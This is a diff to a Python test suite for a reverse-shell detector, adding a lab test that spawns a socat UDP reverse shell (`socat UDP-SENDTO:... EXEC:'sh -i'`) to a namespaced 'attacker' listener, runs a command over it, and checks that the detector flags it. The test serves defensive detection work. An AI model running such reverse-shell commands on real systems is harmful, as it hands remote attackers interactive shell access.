@@ -16,6 +16,7 @@ from __future__ import annotations
 import asyncio
 import contextlib
 import shutil
+import socket
 import subprocess
 import sys
 import time
@@ -375,4 +376,33 @@ def test_shell_reading_a_fifo_on_btrfs(probe, detector, lab, btrfs_dir):
     f = net.fields
     assert (f["stdin"], f["input_network"], f["output_network"]) == ("fifo", True, True)
     assert f["input_peer_comm"] == "nc" and f["remote"] == f"{listener.addr}:{listener.port}"
+    assert fired(detector, nets) == {"breach.stdio_network@1"}
+
+
+def test_socat_udp_sendto(probe, detector, lab):
+    """`socat UDP-SENDTO:HOST:PORT EXEC:sh`: socat's UDP socket is never connected
+    (sendto), so /proc/net/udp shows no remote address; it still reaches anyone."""
+    from agent.lab import netns
+    with netns(lab.attacker):
+        srv = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        srv.bind((lab.addr("attacker"), 0))
+    srv.settimeout(5)
+    with throwaway_cgroup("swa-revsh") as d:
+        proc = run_wiring(lab, d, 'exec socat UDP-SENDTO:"$0":"$1" EXEC:"sh -i",stderr',
+                          lab.addr("attacker"), str(srv.getsockname()[1]))
+        try:
+            _, peer = srv.recvfrom(4096)          # the shell's prompt comes first
+            srv.sendto(b"echo PWNED-$((6*7))\n", peer)
+            got, deadline = b"", time.monotonic() + 5
+            while b"PWNED-42" not in got and time.monotonic() < deadline:
+                got += srv.recvfrom(4096)[0]
+            assert b"PWNED-42" in got
+            nets = shell_network(probe, cgroup_path(d))
+        finally:
+            proc.kill()
+            proc.wait(timeout=10)
+            srv.close()
+    [net] = nets
+    f = net.fields
+    assert (f["stdin"], f["input_peer_comm"], f["remote"]) == ("unix", "socat", "*:0")
     assert fired(detector, nets) == {"breach.stdio_network@1"}
